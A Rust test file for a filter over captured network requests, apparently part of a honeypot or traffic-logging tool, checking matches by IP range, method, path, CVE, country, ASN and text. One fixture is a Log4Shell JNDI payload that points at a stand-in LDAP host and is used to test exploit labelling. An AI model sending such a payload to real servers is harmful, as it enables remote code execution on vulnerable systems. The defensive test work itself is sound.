use super::*;
use crate::bytes::printable;
use crate::reader::entry::tests::{entry, record};

fn matches(query: FilterQuery, raw: &[u8]) -> bool {
    Filter::new(&query).unwrap().matches(&entry(record(raw)))
}

const POST: &[u8] = b"POST /a/b?c=d HTTP/1.1\r\nHost: Example\r\nContent-Length: 4\r\n\r\n\xff\\x4";

#[test]
fn each_condition_is_met_or_not() {
    let all = FilterQuery::default;
    assert!(matches(all(), POST) && matches(all(), b"\x16\x03\x01"));
    for (query, met) in [
        (
            FilterQuery {
                method: "post".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                method: "GET".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                source: "203.0.113.7".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                source: " 203.0.113.0/24 ".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                source: "::ffff:203.0.113.7".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                source: "203.0.113.8".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                source: "2001:db8::/32".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                protocol: "http".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                protocol: "tls".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                path: "/a/".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                path: "/b".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                incomplete: "on".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                body: "on".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                category: "exploit".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                label: "x".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                cve: "CVE-2021-44228".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                country: "NL".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                asn: "64496".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                method: "POST".into(),
                path: "/x".into(),
                ..all()
            },
            false,
        ),
    ] {
        assert_eq!(matches(query.clone(), POST), met, "{query:?}");
    }
    assert!(!matches(
        FilterQuery {
            path: "/".into(),
            ..all()
        },
        b"\x16\x03\x01"
    ));
}

#[test]
fn labels_and_origin_are_conditions() {
    let raw = b"GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1\r\n\r\n";
    let origin = Origin {
        country: Some("NL".into()),
        asn: Some(64496),
        ..Origin::default()
    };
    let log4shell = Entry {
        origin: Some(origin),
        ..entry(record(raw))
    };
    let all = FilterQuery::default;
    for (query, met) in [
        (
            FilterQuery {
                category: "exploit".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                category: "login".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                cve: "cve-2021-44228".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                cve: "CVE-2021-4422".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                label: log4shell.labels[0].signature.id.clone(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                country: "nl".into(),
                asn: "AS64496".into(),
                ..all()
            },
            true,
        ),
        (
            FilterQuery {
                country: "DE".into(),
                ..all()
            },
            false,
        ),
        (
            FilterQuery {
                asn: "64497".into(),
                ..all()
            },
            false,
        ),
    ] {
        assert_eq!(
            Filter::new(&query).unwrap().matches(&log4shell),
            met,
            "{query:?}"
        );
    }
}

#[test]
fn text_is_found_as_sent_and_as_shown() {
    let shown = printable::line(POST, 1000);
    for (q, found) in [
        ("EXAMPLE", true),
        (r"\r\nHost: ex", true),
        (r"\xff", true),
        (r"\x4", true),
        (r"\xfe", false),
        ("é", false),
        (&*shown, true),
    ] {
        assert_eq!(
            matches(
                FilterQuery {
                    q: q.into(),
                    ..FilterQuery::default()
                },
                POST
            ),
            found,
            "{q}"
        );
    }
    let bidi = "a\u{202e}b".as_bytes();
    assert!(matches(
        FilterQuery {
            q: r"a\u{202e}B".into(),
            ..FilterQuery::default()
        },
        bidi
    ));
}

#[test]
fn odd_escapes_are_text() {
    for q in [
        r"\",
        r"\x",
        r"\xé",
        r"\u{}",
        r"\u{110000}",
        r"\u{d800}",
        r"\q",
        r"\\",
    ] {
        assert_eq!(unescape(q), q.as_bytes(), "{q}");
    }
}

#[test]
fn a_bad_field_is_named() {
    for (query, reason) in [
        (
            FilterQuery {
                source: "here".into(),
                ..FilterQuery::default()
            },
            "source: ",
        ),
        (
            FilterQuery {
                source: "10.0.0.0/33".into(),
                ..FilterQuery::default()
            },
            "source: ",
        ),
        (
            FilterQuery {
                protocol: "gopher".into(),
                ..FilterQuery::default()
            },
            "protocol: expected one of http, tls",
        ),
        (
            FilterQuery {
                category: "evil".into(),
                ..FilterQuery::default()
            },
            "category: expected one of exploit, ",
        ),
        (
            FilterQuery {
                asn: "AS-1".into(),
                ..FilterQuery::default()
            },
            "as: ",
        ),
        (
            FilterQuery {
                body: "maybe".into(),
                ..FilterQuery::default()
            },
            "body: ",
        ),
    ] {
        let error = Filter::new(&query).unwrap_err();
        assert!(error.starts_with(reason), "{error}");
    }
}
